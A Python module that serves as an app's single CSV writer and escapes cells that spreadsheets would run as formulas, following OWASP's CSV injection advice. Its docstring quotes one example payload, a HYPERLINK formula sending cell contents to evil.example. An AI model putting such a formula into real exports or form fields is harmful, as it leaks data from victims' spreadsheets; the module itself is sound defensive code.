"""The one CSV writer of the app: every cell a spreadsheet could run as a formula is defused.

Exports end up in Excel, LibreOffice or Numbers, which treat a cell starting with ``=``,
``+``, ``-`` or ``@`` (and, after a tab or carriage return, whatever follows) as a formula.
A sign-up name such as ``=HYPERLINK("https://evil.example?"&A2, "Klicka")`` would then leak
other cells or run commands when the practice opens its subscriber list. OWASP's advice
(https://owasp.org/www-community/attacks/CSV_Injection) is to prefix such a cell with a single
quote, which makes the spreadsheet show it as text; the csv module's quoting then takes care
of separators and quotes inside the cell.

Every CSV the app writes goes through :func:`writer` (a test fails on any other
``csv.writer``/``csv.DictWriter`` under crm/). Kernel module: imports nothing of the app.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any
from typing import Protocol

#: First characters that make a spreadsheet read a cell as a formula (OWASP, see above).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


class _TextOut(Protocol):
    def write(self, s: str, /) -> Any: ...


def escape_cell(value: Any) -> Any:
    """Return ``value`` with a leading single quote if a spreadsheet would run it as a formula.

    Only text can be a formula; numbers, dates and ``None`` pass through unchanged.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class SafeWriter:
    """A ``csv.writer`` whose rows are escaped cell by cell."""

    def __init__(self, out: _TextOut, **fmtparams: Any) -> None:
        self._writer = csv.writer(out, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        """Write one escaped row."""
        return self._writer.writerow([escape_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Write escaped rows."""
        for row in rows:
            self.writerow(row)


def writer(out: _TextOut, **fmtparams: Any) -> SafeWriter:
    """Return the CSV writer to use for every file the app writes (same arguments as csv's)."""
    return SafeWriter(out, **fmtparams)
